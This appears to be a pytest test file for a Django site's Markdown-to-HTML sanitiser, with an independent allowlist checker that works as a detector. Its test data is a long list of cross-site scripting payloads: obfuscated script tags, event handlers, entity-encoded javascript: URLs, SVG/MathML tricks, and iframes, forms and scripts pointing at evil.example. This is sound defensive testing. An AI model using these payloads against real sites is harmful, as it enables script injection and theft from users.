"""The markup pipeline: what users type comes out as safe HTML, and only allowed HTML."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.conf import settings
from django.utils.safestring import SafeString

from community.common.markup import render_markup, stored_html

# The allowlist as this test states it, written out independently of the module under test.
ALLOWED_TAGS = {
    "p", "br", "strong", "em", "b", "i", "del", "s", "code", "pre", "blockquote",
    "ul", "ol", "li", "h3", "h4", "h5", "h6", "hr",
    "table", "thead", "tbody", "tr", "th", "td", "a", "img",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height"},
    "th": {"align"},
    "td": {"align"},
    "code": {"class"},
}
LINK_REL = "nofollow ugc noopener"
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")
# Browsers ignore ASCII whitespace and control characters inside a URL scheme.
IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]")


class _OutputChecker(HTMLParser):
    """Collects every way a piece of HTML breaks the allowlist."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"element <{tag}>")
        names = [name for name, _ in attrs]
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()):
                self.problems.append(f"attribute {name} on <{tag}>")
            squeezed = IGNORED_IN_URLS.sub("", value).lower()
            if "javascript:" in squeezed or "<script" in squeezed:
                self.problems.append(f"script in {name}={value!r}")
            if name == "href":
                scheme = SCHEME.match(squeezed)
                if scheme and scheme.group(1) not in {"http", "https", "mailto"}:
                    self.problems.append(f"href scheme {scheme.group(1)}")
            if name == "src" and not (
                value.startswith(settings.MEDIA_URL) and not value.startswith("//")
            ):
                self.problems.append(f"image from {value!r}")
            if name == "align" and value not in {"left", "center", "right"}:
                self.problems.append(f"align={value!r}")
            if name == "class" and not re.fullmatch(r"language-[A-Za-z0-9_+#.-]+", value):
                self.problems.append(f"class={value!r}")
        if tag == "a" and "href" in names and dict(attrs).get("rel") != LINK_REL:
            self.problems.append(f"link without rel={LINK_REL!r}")
        if tag == "img" and "src" not in names:
            self.problems.append("image without src")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"end tag </{tag}>")

    def handle_comment(self, data):
        self.problems.append("comment")

    def handle_decl(self, decl):
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data):
        self.problems.append(f"declaration {data!r}")


def unsafe_parts(html: str) -> list[str]:
    """Everything in html outside the allowlist; an empty list means it is safe to show."""
    checker = _OutputChecker()
    checker.feed(html)
    checker.close()
    if "<script" in html.lower():
        checker.problems.append("<script in the markup")
    return checker.problems


HOSTILE_INPUTS = [
    # Script elements, every spelling.
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("<SCRIPT>alert(1)</SCRIPT>", id="script-upper"),
    pytest.param("<ScRiPt>alert(1)</sCrIpT>", id="script-mixed-case"),
    pytest.param('<script src="https://evil.example/x.js"></script>', id="script-src"),
    pytest.param(
        '<script type="module" async>import("//evil.example")</script>', id="script-attrs"
    ),
    pytest.param("<script\n>alert(1)</script\n>", id="script-newline-in-tag"),
    pytest.param("<script/xss src=//evil.example/x.js></script>", id="script-slash-attr"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-split-nested"),
    pytest.param("<<script>>alert(1)<</script>>", id="script-double-brackets"),
    pytest.param("text\n\n<script>\nalert(1)\n</script>\n\nmore", id="script-html-block"),
    pytest.param("* item <script>alert(1)</script>", id="script-in-list"),
    pytest.param("| a |\n|---|\n| <script>alert(1)</script> |", id="script-in-table"),
    # Event handlers.
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param('<body onload="alert(1)">', id="body-onload"),
    pytest.param('<p onmouseover="alert(1)">hover</p>', id="onmouseover"),
    pytest.param('<b ONCLICK="alert(1)">click</b>', id="onclick-upper"),
    pytest.param("<img/src=x/onerror=alert(1)>", id="onerror-slashes"),
    pytest.param("<img src=x onerror  =  'alert(1)' >", id="onerror-spacing"),
    pytest.param('<a href="https://ok.example" onfocus="alert(1)" autofocus>x</a>', id="onfocus"),
    pytest.param('<details open ontoggle="alert(1)">', id="ontoggle"),
    # Dangerous URLs in Markdown links.
    pytest.param("[x](javascript:alert(1))", id="md-link-javascript"),
    pytest.param("[x](JaVaScRiPt:alert(1))", id="md-link-javascript-mixed-case"),
    pytest.param("[x](&#106;avascript:alert(1))", id="md-link-decimal-entity"),
    pytest.param("[x](&#0000106avascript:alert(1))", id="md-link-padded-entity"),
    pytest.param("[x](&#x6A;avascript:alert(1))", id="md-link-hex-entity"),
    pytest.param("[x](javascript&#58;alert(1))", id="md-link-entity-colon"),
    pytest.param("[x](javascript&colon;alert(1))", id="md-link-named-colon"),
    pytest.param("[x](java\tscript:alert(1))", id="md-link-tab-in-scheme"),
    pytest.param("[x](java&#x09;script:alert(1))", id="md-link-entity-tab"),
    pytest.param("[x](java&#10;script:alert(1))", id="md-link-entity-newline"),
    pytest.param("[x]( \x01javascript:alert(1))", id="md-link-control-character"),
    pytest.param("[x](<javascript:alert(1)>)", id="md-link-angle-brackets"),
    pytest.param("[x](vbscript:msgbox(1))", id="md-link-vbscript"),
    pytest.param(
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", id="md-data-html"
    ),
    pytest.param("[x](data:image/svg+xml,<svg onload=alert(1)>)", id="md-link-data-svg"),
    pytest.param("[x](file:///etc/passwd)", id="md-link-file"),
    pytest.param("[x][evil]\n\n[evil]: javascript:alert(1)", id="reference-link-javascript"),
    pytest.param('[x][evil]\n\n[evil]: JAVASCRIPT:alert(1) "title"', id="reference-link-titled"),
    pytest.param("<javascript:alert(1)>", id="autolink-javascript"),
    pytest.param("<vbscript:msgbox(1)>", id="autolink-vbscript"),
    pytest.param("[![x](/media/a.png)](javascript:alert(1))", id="linked-image-javascript"),
    # Dangerous URLs in raw HTML links.
    pytest.param('<a href="javascript:alert(1)">x</a>', id="html-link-javascript"),
    pytest.param('<a href="&#0000106avascript:alert(1)">x</a>', id="html-link-padded-entity"),
    pytest.param('<a href="&#x6A;&#x61;vascript:alert(1)">x</a>', id="html-link-hex-entities"),
    pytest.param('<a href=" javascript:alert(1)">x</a>', id="html-link-leading-space"),
    pytest.param('<a href="x"<script>alert(1)</script>', id="html-link-broken-attribute"),
    pytest.param('<a href="https://ok.example" target="_blank">x</a>', id="html-link-target"),
    pytest.param('<a href="https://ok.example" style="color:red">x</a>', id="html-link-style"),
    pytest.param('<a xlink:href="javascript:alert(1)">x</a>', id="html-xlink-href"),
    # Images.
    pytest.param("![x](javascript:alert(1))", id="md-image-javascript"),
    pytest.param("![x](http://evil.example/x.png)", id="md-image-foreign"),
    pytest.param("![x](//evil.example/x.png)", id="md-image-protocol-relative"),
    pytest.param("![x](https://evil.example/media/x.png)", id="md-image-foreign-media-path"),
    pytest.param("![x](data:image/svg+xml;base64,PHN2Zz4=)", id="md-image-data-svg"),
    pytest.param("![x](/media/../admin/logout/)", id="md-image-leaves-media"),
    pytest.param("![x](/media/%2e%2e/admin/logout/)", id="md-image-encoded-dots"),
    pytest.param('![x](/media/a.png "onerror=alert(1)")', id="md-image-title-injection"),
    pytest.param('![" onerror="alert(1)](/media/a.png)', id="md-image-alt-quotes"),
    pytest.param("![x][pic]\n\n[pic]: http://evil.example/x.png", id="md-image-reference"),
    pytest.param("![x](/media/&#46;&#46;/admin/logout/)", id="md-image-entity-dots"),
    pytest.param("![x](&#47;&#47;evil.example/media/x.png)", id="md-image-entity-slashes"),
    pytest.param('![x](/media/a.png "&#106;avascript:alert(1)")', id="md-image-title-entity"),
    pytest.param("![java\tscript:alert(1)](/media/a.png)", id="md-image-alt-script"),
    pytest.param('[x](https://ok.example "JaVa&#x09;ScRiPt:alert(1)")', id="md-link-title-script"),
    pytest.param('<img src="/media/a.png" onload="alert(1)">', id="html-img-onload"),
    pytest.param('<img srcset="http://evil.example/x.png 2x">', id="html-img-srcset"),
    # SVG and MathML.
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param('<svg onload="alert(1)"></svg>', id="svg-onload"),
    pytest.param('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', id="svg-a"),
    pytest.param("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", id="svg-animate"),
    pytest.param(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="mathml-confusion"
    ),
    pytest.param('<math href="javascript:alert(1)">x</math>', id="mathml-href"),
    # Embedding, forms and page-level elements.
    pytest.param('<iframe src="https://evil.example"></iframe>', id="iframe"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object"),
    pytest.param('<embed src="https://evil.example/x.swf">', id="embed"),
    pytest.param('<form action="https://evil.example"><input name="pw"></form>', id="form"),
    pytest.param('<input type="text" autofocus onfocus="alert(1)">', id="input"),
    pytest.param('<button formaction="javascript:alert(1)">go</button>', id="button-formaction"),
    pytest.param('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta"),
    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">', id="link"),
    pytest.param('<base href="https://evil.example/">', id="base"),
    pytest.param("<style>body{background:url(javascript:alert(1))}</style>", id="style-tag"),
    pytest.param('<p style="width:expression(alert(1))">x</p>', id="style-expression"),
    pytest.param('<p style="background:url(javascript:alert(1))">x</p>', id="style-url"),
    pytest.param('<p class="admin" id="header">x</p>', id="class-and-id"),
    # Comments, CDATA, encodings and odd characters.
    pytest.param("<!--<script>alert(1)</script>-->", id="comment-script"),
    pytest.param("<!--[if IE]><script>alert(1)</script><![endif]-->", id="conditional-comment"),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", id="cdata"),
    pytest.param("&lt;script&gt;alert(1)&lt;/script&gt;", id="entities"),
    pytest.param("&#60;script&#62;alert(1)&#60;/script&#62;", id="numeric-entities"),
    pytest.param("\\<script>alert(1)\\</script>", id="backslash-escaped"),
    pytest.param("<scr\x00ipt>alert(1)</script>", id="null-byte-in-tag"),
    pytest.param("[x](java\x00script:alert(1))", id="null-byte-in-scheme"),
    pytest.param("\u003cscript\u003ealert(1)\u003c/script\u003e", id="unicode-escapes"),
    pytest.param("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", id="fullwidth-brackets"),
    pytest.param("\x02wzxhzdk:0\x03<script>alert(1)</script>", id="markdown-placeholder"),
    # Quote breaking and title injection.
    pytest.param('[x](http://a "onmouseover=alert(1)")', id="md-title-injection"),
    pytest.param('[x](http://a "a" onmouseover="alert(1)")', id="md-title-quote-break"),
    pytest.param("[x](http://a 'x\" onmouseover=\"alert(1)')", id="md-title-mixed-quotes"),
    pytest.param('[x](http://a"onmouseover="alert(1))', id="md-href-quote-break"),
    pytest.param('<a href=\'https://ok.example\' " onclick="alert(1)">x</a>', id="attr-quotes"),
    # Fenced code language and bare URLs.
    pytest.param('```python" onclick="alert(1)\ncode\n```', id="fence-language-quote"),
    pytest.param("```{.x onclick=alert(1)}\ncode\n```", id="fence-attribute-list"),
    pytest.param("javascript:alert(1) and vbscript:x", id="bare-javascript"),
    pytest.param("ftp://files.example/x and http://ok.example/<script>", id="bare-other-schemes"),
    pytest.param("http://[::1 is not a host", id="bare-broken-ipv6"),
]


def test_hostile_inputs_are_many():
    assert len(HOSTILE_INPUTS) >= 60


@pytest.mark.parametrize("source", HOSTILE_INPUTS)
def test_hostile_input_yields_only_allowlisted_html(source):
    html = render_markup(source)
    assert unsafe_parts(html) == [], html


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<script>alert(1)</script>", id="script"),
        pytest.param('<a href="javascript:alert(1)" rel="nofollow ugc noopener">x</a>', id="js"),
        pytest.param(
            '<a href="&#106;ava&#x09;script:x" rel="nofollow ugc noopener">x</a>', id="enc"
        ),
        pytest.param('<a href="https://ok.example">x</a>', id="link-without-rel"),
        pytest.param(
            '<a href="https://ok.example" rel="nofollow ugc noopener" target="_blank">x</a>'
        ),
        pytest.param('<img src="http://evil.example/x.png">', id="foreign-image"),
        pytest.param('<img src="//evil.example/media/x.png">', id="protocol-relative-image"),
        pytest.param('<p onclick="alert(1)">x</p>', id="event-handler"),
        pytest.param('<p title="javascript:alert(1)">x</p>', id="script-in-title"),
        pytest.param('<td align="justify">x</td>', id="bad-align"),
        pytest.param('<code class="x">x</code>', id="bad-class"),
        pytest.param("<div>x</div>", id="unknown-element"),
        pytest.param("<h1>x</h1>", id="page-heading"),
        pytest.param("<!-- hidden -->", id="comment"),
    ],
)
def test_the_output_checker_rejects_unsafe_html(html):
    assert unsafe_parts(html) != []


def test_the_output_checker_accepts_safe_html():
    html = (
        '<h3>t</h3><p><a href="https://ok.example" rel="nofollow ugc noopener">x</a> '
        f'<img alt="a" src="{settings.MEDIA_URL}a.png"></p>'
        '<pre><code class="language-python">x</code></pre><table><tr><td align="left">1</td>'
        "</tr></table>"
    )
    assert unsafe_parts(html) == []


def test_script_tags_never_reach_the_page():
    html = render_markup("Hello <script>alert(1)</script>")
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_typed_html_is_shown_as_text():
    assert render_markup("<b>bold?</b>") == "<p>&lt;b&gt;bold?&lt;/b&gt;</p>"


def test_emphasis_and_strong_emphasis_are_kept():
    assert render_markup("*soft* and **loud**") == "<p><em>soft</em> and <strong>loud</strong></p>"


def test_lists_are_kept():
    html = render_markup("1. one\n2. two\n\n- a\n- b")
    assert "<ol>\n<li>one</li>\n<li>two</li>\n</ol>" in html
    assert "<ul>\n<li>a</li>\n<li>b</li>\n</ul>" in html


def test_code_blocks_keep_their_content_escaped():
    html = render_markup("```python\n<script>alert(1)</script>\n```")
    assert html == (
        '<pre><code class="language-python">&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>'
    )


def test_indented_code_keeps_its_content_escaped():
    html = render_markup("Look:\n\n    <b onclick=x>\n")
    assert "<pre><code>&lt;b onclick=x&gt;\n</code></pre>" in html


def test_tables_keep_their_alignment_as_an_attribute():
    html = render_markup("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert '<th align="left">a</th>' in html
    assert '<td align="center">2</td>' in html
    assert '<td align="right">3</td>' in html
    assert "style" not in html


def test_blockquotes_are_kept():
    assert render_markup("> quoted") == "<blockquote>\n<p>quoted</p>\n</blockquote>"


def test_h1_and_h2_become_h3():
    html = render_markup("# One\n\nTwo\n---\n\n#### Four")
    assert html == "<h3>One</h3>\n<h3>Two</h3>\n<h4>Four</h4>"


def test_bare_url_is_linked_with_nofollow_ugc_noopener():
    html = render_markup("See https://shop.example.com/help now")
    assert html == (
        '<p>See <a href="https://shop.example.com/help" rel="nofollow ugc noopener">'
        "https://shop.example.com/help</a> now</p>"
    )


@pytest.mark.parametrize("url", ["www.example.com", "https://example.shop/x", "lamps.store"])
def test_bare_urls_without_a_scheme_or_with_newer_domains_are_linked(url):
    assert 'rel="nofollow ugc noopener"' in render_markup(f"Try {url} today")


def test_markdown_links_get_nofollow_ugc_noopener():
    html = render_markup('[help](https://shop.example/help "Help")')
    assert html == (
        '<p><a href="https://shop.example/help" title="Help" rel="nofollow ugc noopener">'
        "help</a></p>"
    )


def test_a_link_in_a_code_block_is_not_linked():
    html = render_markup("```\nhttps://shop.example.com/help\n```\n\n`https://example.com/x`")
    assert "<a" not in html
    assert "https://shop.example.com/help" in html
    assert "<code>https://example.com/x</code>" in html


def test_a_link_with_a_refused_scheme_keeps_only_its_text():
    assert render_markup("[click me](javascript:alert(1))") == "<p>click me</p>"


def test_a_refused_link_keeps_its_formatted_content():
    html = render_markup(f"[**bold** ![pic]({settings.MEDIA_URL}a.png)](vbscript:x)")
    assert html == f'<p><strong>bold</strong> <img alt="pic" src="{settings.MEDIA_URL}a.png"></p>'


def test_an_image_from_our_media_stays():
    html = render_markup(f"![A chair]({settings.MEDIA_URL}images/chair.png)")
    assert html == f'<p><img alt="A chair" src="{settings.MEDIA_URL}images/chair.png"></p>'


def test_an_image_from_elsewhere_becomes_its_alt_text():
    assert render_markup("![A chair](https://evil.example/chair.png)") == "<p>A chair</p>"


def test_images_follow_the_media_url_setting(settings):
    settings.MEDIA_URL = "/uploads/"
    assert "<img" in render_markup("![x](/uploads/a.png)")
    assert "<img" not in render_markup("![x](/media/a.png)")


def test_mailto_links_stay():
    html = render_markup("[write us](mailto:help@shop.example)")
    assert html == (
        '<p><a href="mailto:help@shop.example" rel="nofollow ugc noopener">write us</a></p>'
    )


def test_relative_links_stay():
    html = render_markup("[faq](/faq/)")
    assert html == '<p><a href="/faq/" rel="nofollow ugc noopener">faq</a></p>'


@pytest.mark.parametrize("source", ["", "   ", "\n\t\n", "\x00"])
def test_an_empty_source_gives_an_empty_string(source):
    assert render_markup(source) == ""


def test_stored_html_returns_a_safe_string():
    html = render_markup("**hi**")
    stored = stored_html(html)
    assert isinstance(stored, SafeString)
    assert stored == "<p><strong>hi</strong></p>"
